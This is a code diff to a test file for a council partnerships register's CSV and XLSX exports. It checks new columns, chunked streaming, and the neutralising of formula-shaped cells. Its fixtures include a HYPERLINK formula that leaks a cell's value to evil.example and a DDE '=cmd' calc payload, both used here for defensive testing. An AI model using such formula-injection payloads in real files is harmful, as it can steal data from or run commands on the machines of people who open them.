@@ -9,11 +9,14 @@ import { SYSTEM } from '../../src/app/deps.ts';
 import { createOrganisation } from '../../src/app/organisations.service.ts';
 import { createPartnership } from '../../src/app/partnerships.service.ts';
 import { createPerson } from '../../src/app/people.service.ts';
+import { createPriority } from '../../src/app/priorities.service.ts';
 import { registerCsv, registerXlsx } from '../../src/app/register-export.ts';
+import { findPartnershipView } from '../../src/db/repositories/partnerships.repo.ts';
 import { searchRegister, type RegisterRow } from '../../src/db/repositories/register.repo.ts';
+import type { PartnershipView } from '../../src/domain/register/records.ts';
 import type { PartnershipDetails } from '../../src/domain/register/partnership.ts';
 import { parseRegisterQuery, type RegisterQuery } from '../../src/domain/register/register-query.ts';
-import { LEGAL_FORMS, LEGAL_FORM_LABELS, STATUSES, STATUS_LABELS } from '../../src/domain/register/vocabulary.ts';
+import { LEGAL_FORMS, LEGAL_FORM_LABELS, RATIONALE_LABELS, STATUS_LABELS } from '../../src/domain/register/vocabulary.ts';
 import { Client } from '../helpers/app.ts';
 import { startApp, type TestApp } from '../helpers/app.ts';
 import { TestClock } from '../helpers/clock.ts';
@@ -24,39 +27,60 @@ import { makeUser, organisationDetails, partnershipDetails, personDetails, signe
 const NOW = '2026-03-31T23:30:00.000Z';
 const UK_DAY = '2026-04-01';
 
+// Six statuses the rows cycle through (named here: the vocabulary's list grows).
+const SIX_STATUSES = ['proposed', 'screened', 'business-case', 'approved', 'setting-up', 'operating'] as const;
+
 const HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")', '+44 1632 960000 helpline', '-5', '@SUM(A1:A9)'];
 
-/** The register list's rows for a query, every page of them, as the list page would show them. */
-async function listRows(t: TestApp, params: Record<string, string | string[]>): Promise<RegisterRow[]> {
+type Listed = RegisterRow & { view: PartnershipView };
+
+/** The register list's rows for a query, every page of them, as the list page would show them, each with its partnership's page record. */
+async function listRows(t: TestApp, params: Record<string, string | string[]>): Promise<Listed[]> {
   const { query } = parseRegisterQuery(params);
   const out: RegisterRow[] = [];
   for (let page = 1; ; page++) {
     const { items, total } = await searchRegister(t.deps.database.db, { ...query, page });
     out.push(...items);
-    if (out.length >= total || items.length === 0) return out;
+    if (out.length >= total || items.length === 0) break;
   }
+  return Promise.all(out.map(async (r) => ({ ...r, view: (await findPartnershipView(t.deps.database.db, r.id))! })));
 }
 
 // Written out here rather than taken from the code under test, so a wrong cell fails.
 const pounds = (pence: number | null) => (pence === null ? '' : (pence / 100).toFixed(2));
 const safe = (s: string) => (/^[=+\-@\t\r]/.test(s) ? `'${s}` : s);
-const partnersText = (r: RegisterRow) => r.partners.map((p) => (p.role === 'lead' ? `${p.name} (lead)` : p.name)).join('; ');
+const ROLE = { lead: 'lead / accountable body', member: 'member', associate: 'associate', funder: 'funder' } as const;
+const MEMBER = { voting: 'voting', 'non-voting': 'non-voting', observer: 'observer' } as const;
+const partnersText = (r: Listed) => r.view.partnerViews.map((p) => `${p.name} (${ROLE[p.role]}; ${MEMBER[p.memberStatus]})`).join('; ');
+const representativesText = (r: Listed) => r.view.representativeViews.map((p) => `${p.name} (${p.capacity})`).join('; ');
+const prioritiesText = (r: Listed) => r.view.priorityViews.map((p) => `${p.title}: ${p.how}`).join('; ');
+const WELLBEING = { economic: 'Economic', social: 'Social', environmental: 'Environmental' } as const;
 const budget = (b: boolean | null) => (b === null ? '' : b ? 'Yes' : 'No');
 
-function expectedCsvRecord(r: RegisterRow): string[] {
+function expectedCsvRecord(r: Listed): string[] {
+  const v = r.view;
   return [
     r.reference,
     safe(r.name),
     STATUS_LABELS[r.status],
     LEGAL_FORM_LABELS[r.legalForm],
     safe(r.purpose),
+    safe(v.expectedOutcomes),
+    v.rationale.map((x) => RATIONALE_LABELS[x]).join('; '),
+    v.wellbeing.map((x) => WELLBEING[x]).join('; '),
+    r.startDate ?? '',
+    r.expectedEndDate ?? '',
+    safe(v.durationDescription ?? ''),
+    pounds(r.councilContributionPence),
+    budget(r.withinApprovedBudget),
+    safe(v.resourcesStaff ?? ''),
+    safe(v.resourcesAssets ?? ''),
+    safe(v.resourcesInKind ?? ''),
+    safe(prioritiesText(r)),
     safe(partnersText(r)),
     safe(r.sponsoringOfficerName ?? ''),
     safe(r.accountableOfficerName ?? ''),
-    pounds(r.councilContributionPence),
-    budget(r.withinApprovedBudget),
-    r.startDate ?? '',
-    r.expectedEndDate ?? '',
+    safe(representativesText(r)),
   ];
 }
 
@@ -66,13 +90,22 @@ const HEADERS = [
   'Status',
   'Legal form',
   'Purpose',
-  'Partners',
-  'Sponsoring officer',
-  'Accountable officer',
-  'Council contribution per year (£)',
-  'Within approved budget',
+  'Expected outcomes',
+  'Why the council is in it',
+  'Well-being',
   'Start date',
   'Expected end date',
+  'Expected duration',
+  'Council contribution per year (£)',
+  'Within approved budget',
+  'Staff',
+  'Operational assets',
+  'In-kind and other commitments',
+  'Corporate priorities and how it serves them',
+  'Partners (role; member status)',
+  'Sponsoring officer',
+  'Accountable officer',
+  'Council representatives',
 ];
 
 interface Csv {
@@ -112,15 +145,24 @@ forEachDatabase('register exports', (ctx) => {
     const officer = await createPerson(t.deps, SYSTEM, personDetails('Jo Officer', council.id, { jobTitle: 'Head of Partnerships', councilRole: 'officer' }));
     const dash = await createPerson(t.deps, SYSTEM, personDetails('-Sam Dash', council.id, { councilRole: 'officer' }));
     officerId = officer.id;
+    const cllr = await createPerson(t.deps, SYSTEM, personDetails('Cllr Ann Lee', council.id, { councilRole: 'councillor' }));
+    const greener = await createPriority(t.deps, SYSTEM, { title: 'A greener borough', description: null, active: true });
+    const safer = await createPriority(t.deps, SYSTEM, { title: 'Safer streets', description: null, active: true });
 
     const base = (i: number): PartnershipDetails => partnershipDetails({
       name: `Partnership ${String(i).padStart(2, '0')}`,
       purpose: `Purpose of partnership ${i}`,
       expectedOutcomes: 'Better outcomes',
-      rationale: ['cross-cutting-issues'],
-      wellbeing: ['social'],
+      rationale: i % 3 ? ['cross-cutting-issues'] : ['coordinated-services', 'statutory-requirement'],
+      wellbeing: i % 2 ? ['social'] : ['economic', 'environmental'],
+      durationDescription: i % 4 ? null : `${i} years`,
+      resourcesStaff: i % 2 ? `${i} FTE` : null,
+      resourcesAssets: i % 3 ? null : 'A depot',
+      resourcesInKind: i === 7 ? '@desk space, and "hot" desks' : null,
+      representatives: i % 2 ? [{ personId: cllr.id, capacity: 'councillor' }, { personId: officer.id, capacity: 'officer' }] : [],
+      priorities: i % 3 ? [{ priorityId: greener.id, how: `Less landfill ${i}` }] : [{ priorityId: greener.id, how: 'Recycling' }, { priorityId: safer.id, how: 'Joint patrols' }],
       legalForm: LEGAL_FORMS[i % LEGAL_FORMS.length]!,
-      status: STATUSES[i % 6]!,
+      status: SIX_STATUSES[i % 6]!,
       startDate: i % 4 === 0 ? null : `20${String(10 + (i % 15)).padStart(2, '0')}-0${1 + (i % 9)}-1${i % 10}`,
       expectedEndDate: i % 3 === 0 ? `2035-12-31` : null,
       councilContributionPence: i % 5 === 0 ? null : i * 1_234_567 + (i % 2 ? 50 : 0),
@@ -167,6 +209,24 @@ forEachDatabase('register exports', (ctx) => {
     assert.deepEqual(records.slice(1), rows.map(expectedCsvRecord));
   });
 
+  it('R-2.6.11 one row per partnership, every answer of each; both downloads are streamed (chunked, no length)', async () => {
+    const total = Number((await t.deps.database.db.selectFrom('partnerships').select((eb) => eb.fn.countAll().as('n')).executeTakeFirstOrThrow()).n);
+    for (const ext of ['csv', 'xlsx']) {
+      const res = await auditor.get(`/partnerships/export.${ext}`);
+      assert.equal(res.statusCode, 200);
+      assert.equal(res.headers['content-length'], undefined, `${ext}: no length known in advance`);
+      assert.equal(res.headers['transfer-encoding'], 'chunked', ext);
+    }
+    const { records } = readCsv((await auditor.get('/partnerships/export.csv')).body);
+    assert.equal(records.length - 1, total, 'one row per partnership');
+    assert.equal(new Set(records.slice(1).map((r) => r[0])).size, total, 'no partnership twice (many partners, representatives and priorities each)');
+    const withEverything = records.find((r) => r[14] === 'A depot' && r[20] !== '')!;
+    assert.ok(withEverything, 'a partnership with assets and representatives');
+    assert.match(withEverything[16]!, /^A greener borough: Recycling; Safer streets: Joint patrols$/);
+    assert.equal(withEverything[20], 'Cllr Ann Lee (councillor); Jo Officer (officer)');
+    assert.equal(withEverything[6], 'To deliver coordinated packages of services to residents; To fulfil a statutory requirement');
+  });
+
   it('R-2.6.11 formula-shaped cells are neutralised in the CSV, and other text survives intact', async () => {
     const res = await auditor.get('/partnerships/export.csv?q=helpline');
     const { records } = readCsv(res.body);
@@ -183,8 +243,9 @@ forEachDatabase('register exports', (ctx) => {
     assert.equal(hyperlink[4], 'Line one, with a comma\nLine two with "quotes" – and £ signs, café');
     assert.equal(all.find((r) => r[1] === "'-5")![4], `'=cmd|' /C calc'!A2`);
     // Partners and officers whose names start a formula are neutralised too.
-    assert.ok(all.some((r) => r[5]!.startsWith("'@Risky Partners Ltd (lead); Brackenford CVS, Ltd \"the CVS\"; Test Borough Council")));
-    assert.ok(all.some((r) => r[7] === "'-Sam Dash"));
+    assert.ok(all.some((r) => r[17] === "'@Risky Partners Ltd (lead / accountable body; voting); Brackenford CVS, Ltd \"the CVS\" (associate; observer); Test Borough Council (member; voting)"));
+    assert.ok(all.some((r) => r[19] === "'-Sam Dash"));
+    assert.ok(all.some((r) => r[15] === `'@desk space, and "hot" desks`));
     for (const record of all) for (const cell of record) assert.doesNotMatch(cell, /^[=+\-@\t\r]/, `cell ${JSON.stringify(cell)}`);
   });
 
@@ -228,7 +289,9 @@ forEachDatabase('register exports', (ctx) => {
     assert.equal(await text(query, 7), whole);
     assert.equal(await text(query, 34), whole);
     assert.equal(readCsv(whole).records.length, 35);
-    const sheet = await readXlsx(await registerXlsx(t.deps.database.db, query, clock.now(), 7));
+    const chunks: Buffer[] = [];
+    for await (const chunk of await registerXlsx(t.deps.database.db, query, clock.now(), 7)) chunks.push(chunk as Buffer);
+    const sheet = await readXlsx(Buffer.concat(chunks));
     assert.equal(sheet.actualRowCount, 35);
   });
 
@@ -261,21 +324,25 @@ forEachDatabase('register exports', (ctx) => {
       assert.equal(row.getCell(3).value, STATUS_LABELS[r.status], where);
       assert.equal(row.getCell(4).value, LEGAL_FORM_LABELS[r.legalForm], where);
       assert.equal(row.getCell(5).value, r.purpose, where);
-      assert.equal(row.getCell(6).value, partnersText(r), where);
-      assert.equal(row.getCell(7).value ?? null, r.sponsoringOfficerName || null, where);
-      assert.equal(row.getCell(8).value ?? null, r.accountableOfficerName || null, where);
+      assert.equal(row.getCell(6).value, r.view.expectedOutcomes, where);
+      assert.equal(row.getCell(7).value, r.view.rationale.map((x) => RATIONALE_LABELS[x]).join('; '), where);
+      assert.equal(row.getCell(17).value, prioritiesText(r), where);
+      assert.equal(row.getCell(18).value, partnersText(r), where);
+      assert.equal(row.getCell(19).value ?? null, r.sponsoringOfficerName || null, where);
+      assert.equal(row.getCell(20).value ?? null, r.accountableOfficerName || null, where);
+      assert.equal(row.getCell(21).value ?? null, representativesText(r) || null, where);
 
-      const money = row.getCell(9);
+      const money = row.getCell(12);
       if (r.councilContributionPence === null) assert.equal(money.value ?? null, null, where);
       else {
         assert.equal(money.type, ExcelJS.ValueType.Number, where);
         assert.equal(money.value, r.councilContributionPence / 100, where);
         assert.equal(money.numFmt, '"£"#,##0.00', where);
       }
-      assert.equal(row.getCell(10).value ?? '', budget(r.withinApprovedBudget), where);
+      assert.equal(row.getCell(13).value ?? '', budget(r.withinApprovedBudget), where);
       for (const [col, date] of [
-        [11, r.startDate],
-        [12, r.expectedEndDate],
+        [9, r.startDate],
+        [10, r.expectedEndDate],
       ] as const) {
         const cell = row.getCell(col);
         if (date === null) assert.equal(cell.value ?? null, null, where);
